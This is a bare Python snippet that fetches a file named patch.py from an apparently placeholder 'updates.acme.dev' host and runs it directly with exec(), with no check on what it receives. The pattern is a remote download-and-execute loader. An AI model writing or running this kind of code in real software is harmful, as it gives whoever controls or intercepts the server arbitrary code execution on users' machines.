import urllib.request
request = urllib.request.Request("https://updates.acme.dev/patch.py", headers={"User-Agent": "x"})
exec(urllib.request.urlopen(request).read())
